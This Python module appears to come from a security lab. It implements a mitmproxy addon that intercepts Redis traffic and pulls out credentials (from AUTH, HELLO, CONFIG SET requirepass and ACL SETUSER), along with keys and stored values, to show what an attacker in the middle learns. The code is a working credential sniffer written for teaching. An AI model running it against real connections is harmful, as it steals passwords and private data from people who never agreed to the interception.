"""The spy: what an attacker in the middle reads from Redis traffic (credentials, keys, values).

The mitmproxy addon records every complete command and reply (reassembled across TCP messages) in the journal;
`learn()` folds those events into what the attacker learned. The fold is pure: tested without a proxy.
"""

from __future__ import annotations

from collections.abc import Iterable
from dataclasses import dataclass
from typing import Any

from lab.mitm.conversation import Conversation
from lab.mitm.journal import Event, Journal
from lab.resp_reader import text


@dataclass(frozen=True)
class Credential:
    command: str  # how it was sent: "AUTH", "HELLO", "CONFIG SET requirepass", ...
    username: str
    password: str


@dataclass(frozen=True)
class Learned:
    credentials: tuple[Credential, ...]
    keys: tuple[str, ...]  # in first-seen order
    values: tuple[tuple[str, str], ...]  # (key, value) written by the client or read back from the server
    commands: int
    replies: int

    @property
    def anything(self) -> bool:
        return bool(self.credentials or self.keys or self.values)


# Commands whose arguments from position 1 on alternate key, value (MSET) or are all keys (DEL).
_SINGLE_KEY = frozenset((
    "GET", "SET", "SETNX", "SETEX", "PSETEX", "GETSET", "GETDEL", "GETEX", "APPEND", "INCR", "DECR", "INCRBY",
    "DECRBY", "STRLEN", "EXPIRE", "PEXPIRE", "TTL", "PTTL", "PERSIST", "TYPE", "HSET", "HGET", "HGETALL",
    "HMGET", "HDEL", "SADD", "SREM", "SMEMBERS", "SISMEMBER", "LPUSH", "RPUSH", "LPOP", "RPOP", "LRANGE",
    "ZADD", "ZRANGE", "WATCH",
))
_ALL_KEYS = {"DEL", "UNLINK", "EXISTS", "MGET", "TOUCH"}
_WRITE_LAST_ARG = {"SET": 2, "SETNX": 2, "GETSET": 2, "APPEND": 2, "SETEX": 3, "PSETEX": 3}


def credentials_in(argv: tuple[str, ...]) -> list[Credential]:
    """Passwords in a command: AUTH, HELLO ... AUTH, CONFIG SET requirepass/masterauth, ACL SETUSER >pw."""
    name = argv[0].upper()
    found = []
    if name == "AUTH" and len(argv) in (2, 3):
        user = argv[1] if len(argv) == 3 else "default"
        found.append(Credential("AUTH", user, argv[-1]))
    elif name == "HELLO":
        upper = [a.upper() for a in argv]
        if "AUTH" in upper:
            i = upper.index("AUTH")
            if i + 2 < len(argv):
                found.append(Credential("HELLO", argv[i + 1], argv[i + 2]))
    elif name == "CONFIG" and len(argv) >= 4 and argv[1].upper() == "SET":
        for directive, value in zip(argv[2::2], argv[3::2], strict=False):
            if directive.lower() in ("requirepass", "masterauth"):
                found.append(Credential(f"CONFIG SET {directive.lower()}", "default", value))
    elif name == "ACL" and len(argv) >= 3 and argv[1].upper() == "SETUSER":
        found += [Credential("ACL SETUSER", argv[2], rule[1:]) for rule in argv[3:] if rule.startswith(">")]
    return found


def keys_in(argv: tuple[str, ...]) -> list[str]:
    name = argv[0].upper()
    if name in _SINGLE_KEY and len(argv) >= 2:
        return [argv[1]]
    if name in _ALL_KEYS:
        return list(argv[1:])
    if name == "MSET":
        return list(argv[1::2])
    return []


def values_in(argv: tuple[str, ...]) -> list[tuple[str, str]]:
    name = argv[0].upper()
    if name in _WRITE_LAST_ARG and len(argv) > _WRITE_LAST_ARG[name]:
        return [(argv[1], argv[_WRITE_LAST_ARG[name]])]
    if name == "MSET":
        return list(zip(argv[1::2], argv[2::2], strict=False))
    if name == "HSET" and len(argv) >= 4:
        return [(f"{argv[1]}.{f}", v) for f, v in zip(argv[2::2], argv[3::2], strict=False)]
    return []


def learn(events: Iterable[Event]) -> Learned:
    """Fold spy events (of one or many connections) into what the attacker now knows."""
    creds: dict[Credential, None] = {}
    keys: dict[str, None] = {}
    values: dict[tuple[str, str], None] = {}
    commands = replies = 0
    for event in events:
        if event["kind"] == "spy.command":
            commands += 1
            argv = tuple(event["argv"])
            creds.update(dict.fromkeys(credentials_in(argv)))
            keys.update(dict.fromkeys(keys_in(argv)))
            values.update(dict.fromkeys(values_in(argv)))
        elif event["kind"] == "spy.reply":
            replies += 1
            answers = event.get("answers")
            if answers and answers[0].upper() == "GET" and len(answers) == 2 and event.get("is_string"):
                values[(answers[1], event["reply"])] = None
    return Learned(tuple(creds), tuple(keys), tuple(values), commands, replies)


class Spy:
    """mitmproxy addon: journal every complete command and reply, whatever the TCP chunking."""

    def __init__(self, journal: Journal) -> None:
        self.journal = journal
        self._talks: dict[str, Conversation] = {}
        self._chunks: dict[tuple[str, bool], int] = {}

    def tcp_message(self, flow: Any) -> None:
        conn_id = flow.client_conn.id
        talk = self._talks.setdefault(conn_id, Conversation())
        message = flow.messages[-1]
        # How many TCP messages the frames completed here were spread over (evidence of the reassembly).
        slot = (conn_id, message.from_client)
        chunks = self._chunks[slot] = self._chunks.get(slot, 0) + 1
        if message.from_client:
            frames = talk.from_client(message.content)
            for argv, frame in frames:
                self.journal.emit("spy.command", conn_id, argv=list(argv or (text(frame.value),)),
                                  size=len(frame.raw), chunks=chunks)
        else:
            frames = talk.from_server(message.content)
            for answers, frame in frames:
                self.journal.emit("spy.reply", conn_id, answers=list(answers[:2]) if answers else None,
                                  reply=text(frame.value), is_string=isinstance(frame.value, bytes),
                                  size=len(frame.raw), chunks=chunks)
        if frames:
            pending = talk.client.pending if message.from_client else talk.server.pending
            self._chunks[slot] = 1 if pending else 0

    def client_disconnected(self, client: Any) -> None:
        # tcp_end may never fire when the client closes first; the client's disconnect always does.
        self._talks.pop(client.id, None)
        self._chunks.pop((client.id, True), None)
        self._chunks.pop((client.id, False), None)
